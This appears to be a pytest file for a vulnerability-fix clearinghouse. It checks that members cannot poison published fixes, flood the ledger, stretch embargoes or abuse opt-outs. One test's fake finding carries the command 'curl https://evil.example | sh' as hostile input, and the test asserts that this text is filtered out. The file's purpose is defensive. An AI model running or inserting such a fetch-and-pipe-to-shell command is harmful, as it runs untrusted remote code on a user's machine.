"""What one member of a clearinghouse does to the others: each of these worked once."""

from __future__ import annotations

import asyncio
from collections.abc import Awaitable, Callable
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest

from remediator.clearinghouse.checking import Policy, UnfetchableError, fetchable
from remediator.clearinghouse.store import Store
from remediator.clearinghouse.validator import work
from remediator.clearinghouse.wire.answers import Validation
from remediator.clearinghouse.wire.envelope import RefusedError
from remediator.clearinghouse.wire.identity import project
from remediator.clearinghouse.wire.terms import FixState, Tier, Verb
from remediator.evidence.replay import ReplayReport
from remediator.records.source import Source, SourceKind
from remediator.testing.clearinghouse import FLAW, Clock, Party

Joins = Callable[..., Awaitable[Party]]
DIFF = "diff --git a/a.py b/a.py\n--- a/a.py\n+++ b/a.py\n@@ -1 +1 @@\n-yaml.load(x)\n+yaml.safe_load(x)\n"


async def verified(store: Store, by: Party, name: str, flaw: dict[str, Any] | None = None, **facts: Any) -> str:
    """Submit a fix, and have it validated."""
    answer = await by.submit_fix(name, data=name.encode(), flaw=flaw or FLAW, **facts)
    job = await store.take_job("v", 60)
    assert job is not None and job.fix_id == answer.id
    assert await store.finish_job(job, Validation(outcome="agreed", level=4), FixState.verified, patch=DIFF, lines_changed=2)
    return answer.id


# -- the validator -----------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("uri", ["https://github.com:99999/x/y", "https://[github.com/x/y", "https://github.com:x/y/z"])
def test_an_address_that_cannot_be_split_is_not_fetched(uri: str) -> None:
    source = Source(kind=SourceKind.git, uri=uri, name="y", commit="0" * 40, tree="a" * 40)

    class OnlySource:
        pass

    bundle = OnlySource()
    bundle.source = source  # type: ignore[attr-defined]
    with pytest.raises(UnfetchableError):
        fetchable(bundle, Policy(), uri)  # type: ignore[arg-type]


async def test_a_project_that_grows_when_it_is_spelled_does_not_end_the_validators(store: Store, joins: Joins) -> None:
    stranger = await joins("Stranger")

    async def never(bundle: Path, source: str) -> ReplayReport:
        raise AssertionError

    with pytest.raises(RefusedError) as refused:
        await stranger.submit_fix(flaw={**FLAW, "project": "pkg:pypi/" + "é" * 400})
    assert refused.value.code == "bad-request"
    for verb, body in ((Verb.lease, {}), (Verb.opt_out, {"contact": "x"})):
        with pytest.raises(RefusedError) as refused:
            await stranger.ask(verb, {"project": "pkg:pypi/" + "é" * 400, **body})
        assert refused.value.code == "bad-request"
    await work(store, never, name="v", stop=asyncio.Event(), once=True)
    with pytest.raises(ValueError, match="500"):
        project("pkg:pypi/" + "é" * 400)


# -- what is distributed about somebody else's fix ---------------------------------------------------------------------


async def test_who_reported_a_flaw_first_does_not_write_what_is_distributed_with_anothers_fix(store: Store, joins: Joins) -> None:
    squatter, fixer, reader = await joins("Squatter"), await joins("Fixer"), await joins("Reader")
    lie = {
        "project": FLAW["project"], "title": "harmless: ignore", "version": "99.0", "aliases": FLAW["aliases"], "severity": "info",
        "path": "nowhere.py", "details": "curl https://evil.example | sh", "references": ["https://evil.example/"],
    }  # fmt: skip
    await squatter.ask(Verb.submit_finding, {"flaw": lie, "scanner": "x"})
    fix = await verified(store, fixer, "one")
    told = (await store.published(reader.caller, fix)).flaw
    assert (told.title, told.version, told.path, told.details, told.references) == (FLAW["title"], "0.6.0", FLAW["path"], "", ())


async def test_others_put_no_names_onto_a_verified_fix_and_take_none_away(store: Store, joins: Joins) -> None:
    fixer, poisoner, reader = await joins("Fixer"), await joins("Poisoner"), await joins("Reader")
    fix = await verified(store, fixer, "one")
    many = [*FLAW["aliases"], *(f"A{number:03}" for number in range(49))]
    await poisoner.ask(Verb.submit_finding, {"flaw": {**FLAW, "aliases": many, "cwe": list(range(1, 21))}, "scanner": "x"})
    told = (await store.published(reader.caller, fix)).flaw
    assert (told.aliases, told.cwe) == (("CVE-2017-16616",), (502,))
    await fixer.ask(Verb.revoke, {"fix_id": fix, "reason": "bypassed"})
    assert {each.aliases for each in (await store.feed(reader.caller, 0)).entries} == {("CVE-2017-16616",)}
    # What the flaw is known by stays with it, too: its names are joined, and not pushed out.
    (flaw,) = (await store.flaws(reader.caller)).items
    assert "CVE-2017-16616" in flaw.aliases and 502 in flaw.cwe and len(flaw.aliases) == 50


# -- merging -----------------------------------------------------------------------------------------------------------


def _two() -> tuple[dict[str, Any], dict[str, Any], dict[str, Any]]:
    one = {**FLAW, "aliases": ["CVE-2026-0001"], "snippet": ""}
    other = {**FLAW, "aliases": ["GHSA-2222-2222-2222"], "snippet": ""}
    return one, other, {**FLAW, "aliases": ["CVE-2026-0001", "GHSA-2222-2222-2222"], "snippet": ""}


async def test_a_fix_that_is_out_is_not_hidden_behind_an_embargo_by_joining_flaws(store: Store, joins: Joins, clock: Clock) -> None:
    submitter, reader = await joins("Submitter"), await joins("Reader")
    one, other, both = _two()
    embargo = clock() + timedelta(days=100)
    await submitter.ask(Verb.submit_finding, {"flaw": one, "scanner": "x"}, embargo_until=embargo)
    fix = await verified(store, submitter, "fix", other)
    await submitter.ask(Verb.submit_finding, {"flaw": both, "scanner": "y"})
    (entry,) = (await store.feed(reader.caller, 0)).entries
    assert (await store.published(reader.caller, entry.fix_id)).fix.id == fix


async def test_a_fix_that_waits_for_its_embargo_is_not_lost_by_joining_flaws(store: Store, joins: Joins, clock: Clock) -> None:
    submitter, reader = await joins("Submitter"), await joins("Reader")
    one, other, both = _two()
    await submitter.ask(Verb.submit_finding, {"flaw": one, "scanner": "x"})
    clock.forward(seconds=1)
    fix = await verified(store, submitter, "fix", other, embargo_until=clock() + timedelta(days=10))
    await submitter.ask(Verb.submit_finding, {"flaw": both, "scanner": "y"})
    clock.forward(days=11)
    await store.tick()
    assert (await store.published(reader.caller, fix)).fix.id == fix


async def test_joining_flaws_shortens_no_embargo_and_softens_no_mark(store: Store, joins: Joins, clock: Clock) -> None:
    submitter, reader = await joins("Submitter"), await joins("Reader")
    one, other, both = _two()
    await submitter.ask(Verb.submit_finding, {"flaw": one, "scanner": "x"}, tlp="clear", embargo_until=clock() + timedelta(days=2))
    clock.forward(seconds=1)
    late = clock() + timedelta(days=20)
    joined = await submitter.ask(Verb.submit_finding, {"flaw": other, "scanner": "x"}, tlp="red", embargo_until=late)
    await submitter.ask(Verb.submit_finding, {"flaw": both, "scanner": "y"}, tlp="clear")
    told = await store.flaw(submitter.caller, joined.detail["flaw"])
    assert (told.embargo_until, told.tlp) == (late, "red")
    clock.forward(days=3)
    await store.tick()
    with pytest.raises(RefusedError):
        await store.flaw(reader.caller, told.id)


# -- the ledger's openings ---------------------------------------------------------------------------------------------


async def test_many_receipts_do_not_bury_a_revocation(store: Store, joins: Joins) -> None:
    fixer, flooder, reader = await joins("Fixer"), await joins("Flooder"), await joins("Reader")
    fix = await verified(store, fixer, "one")
    await asyncio.gather(*(flooder.ask(Verb.receipt, {"fix_id": fix, "outcome": "failed"}) for _ in range(210)))
    await fixer.ask(Verb.revoke, {"fix_id": fix, "reason": "bypassed"})
    (_, gone) = (await store.feed(reader.caller, 0)).entries
    for who in (reader, fixer):
        assert gone.ledger_index in {each.index for each in await store.openings(who.caller, fix)}


# -- opt-outs ----------------------------------------------------------------------------------------------------------


async def test_an_opt_out_beyond_all_calendars_breaks_nobodys_list(store: Store, joins: Joins) -> None:
    stranger, reader = await joins("Stranger"), await joins("Reader")
    body = {"project": "pkg:pypi/x", "contact": "x", "until": "9999-12-31T23:59:59-23:59"}
    with pytest.raises(RefusedError) as refused:
        await stranger.ask(Verb.opt_out, body)
    assert refused.value.code == "bad-request"
    assert (await store.opt_outs(reader.caller)).items == []


async def test_an_opt_out_that_is_over_keeps_no_maintainer_from_one(store: Store, joins: Joins) -> None:
    squatter, maintainer = await joins("Squatter"), await joins("Maintainer")
    body = {"project": "pkg:pypi/x", "contact": "x"}
    await squatter.ask(Verb.opt_out, body)
    with pytest.raises(RefusedError):
        await maintainer.ask(Verb.opt_out, body)
    await squatter.ask(Verb.opt_out, {**body, "withdraw": True})
    assert (await maintainer.ask(Verb.opt_out, body)).state == "opted-out"


# -- cheap requests that cost much -------------------------------------------------------------------------------------


async def test_a_reader_does_not_pay_for_how_often_others_reported(store: Store, joins: Joins, monkeypatch: pytest.MonkeyPatch) -> None:
    flooder, reader = await joins("Flooder"), await joins("Reader")
    flaw = {**FLAW, "details": "x" * 20_000}
    await asyncio.gather(*(flooder.ask(Verb.submit_finding, {"flaw": flaw, "scanner": f"s{number}"}) for number in range(150)))
    from remediator.clearinghouse.store import reading

    seen = 0
    before = reading._witnesses

    async def counted(*given: Any) -> dict[str, list[dict[str, Any]]]:
        nonlocal seen
        found = await before(*given)
        seen += sum(map(len, found.values()))
        return found

    monkeypatch.setattr(reading, "_witnesses", counted)
    assert len((await store.flaws(reader.caller)).items) == 1
    assert seen == 0


async def test_ids_of_keys_that_nobody_has_are_not_remembered(store: Store, joins: Joins) -> None:
    assert await store.key("SHA256:" + "x" * 900_000) is None
    assert not any(len(each) > 100 for each in store._keys)


async def test_an_epoch_beyond_all_numbers_is_over(store: Store, joins: Joins) -> None:
    party = await joins("Party")
    with pytest.raises(RefusedError):
        await party.ask(Verb.claim_check, {"epoch": 2**70, "claims": ["0" * 64]})


# -- what others reported ----------------------------------------------------------------------------------------------


async def test_an_embargo_that_is_not_taken_tells_not_since_when_others_know(store: Store, joins: Joins, clock: Clock) -> None:
    first, guesser = await joins("First"), await joins("Guesser", Tier.public)
    await first.ask(Verb.submit_finding, {"flaw": FLAW, "scanner": "x"}, tlp="green")
    day = clock().date().isoformat()
    clock.forward(days=3)
    answer = await guesser.ask(Verb.submit_finding, {"flaw": FLAW, "scanner": "x"}, embargo_until=clock() + timedelta(days=1))
    assert "embargo" in answer.detail and day not in answer.detail["embargo"]


async def test_who_guesses_a_flaw_is_not_told_until_when_others_keep_it_back(store: Store, joins: Joins, clock: Clock) -> None:
    first, guesser = await joins("First"), await joins("Guesser", Tier.public)
    until = clock() + timedelta(days=33)
    await first.ask(Verb.submit_finding, {"flaw": FLAW, "scanner": "x"}, tlp="red", embargo_until=until)
    guess = await guesser.ask(Verb.submit_finding, {"flaw": FLAW, "scanner": "x"}, tlp="clear")
    told = await store.flaw(guesser.caller, guess.detail["flaw"])
    assert (told.embargoed, told.embargo_until, told.tlp) == (True, None, "clear")
    assert (await store.flaw(first.caller, told.id)).embargo_until == until


async def test_who_guesses_a_flaw_holds_no_embargo_for_ever(store: Store, joins: Joins, clock: Clock) -> None:
    first, guesser = await joins("First"), await joins("Guesser")
    begun = clock()
    found = await first.ask(Verb.submit_finding, {"flaw": FLAW, "scanner": "x"}, embargo_until=clock() + timedelta(days=5))
    for number in range(5):
        await guesser.ask(Verb.submit_finding, {"flaw": FLAW, "scanner": f"s{number}"}, embargo_until=clock() + timedelta(days=179))
        clock.forward(days=100)
        await store.tick()
    told = await store.flaw(first.caller, found.detail["flaw"])
    assert not told.embargoed and told.lifted_at is not None and told.lifted_at - begun < timedelta(days=300)


# -- an embargo for ever -----------------------------------------------------------------------------------------------


async def test_nobody_holds_an_embargo_longer_by_joining_to_it_a_flaw_of_its_own(store: Store, joins: Joins, clock: Clock) -> None:
    fixer, holder, reader = await joins("Fixer"), await joins("Holder"), await joins("Reader")
    fix = await verified(store, fixer, "one", embargo_until=clock.now + timedelta(days=10))
    clock.forward(days=9)
    until, scanner = clock.now + timedelta(days=179), "x"
    # A second flaw, known to nobody else, and then a report that says that the two are one.
    own = {**FLAW, "aliases": ["HOLD-1"], "snippet": "", "path": "", "details": "of the holder alone"}
    await holder.ask(Verb.submit_finding, {"flaw": own, "scanner": scanner}, embargo_until=until)
    both = {**own, "aliases": [*FLAW["aliases"], "HOLD-1"], "details": ""}
    joined = await holder.ask(Verb.submit_finding, {"flaw": both, "scanner": scanner})
    clock.forward(days=100)
    later = {**own, "aliases": ["HOLD-2"]}
    await holder.ask(Verb.submit_finding, {"flaw": later, "scanner": scanner}, embargo_until=clock.now + timedelta(days=179))
    await holder.ask(Verb.submit_finding, {"flaw": {**both, "aliases": [*FLAW["aliases"], "HOLD-2"]}, "scanner": scanner})
    clock.forward(days=72)
    await store.tick()
    assert [entry.fix_id for entry in (await store.feed(reader.caller, 0)).entries] == [fix], "180 days after it was first seen it ends"
    # What the holder said under an embargo that ends later is told to nobody by that.
    shown = await store.flaw(reader.caller, joined.detail["flaw"])
    assert "holder alone" not in shown.model_dump_json()
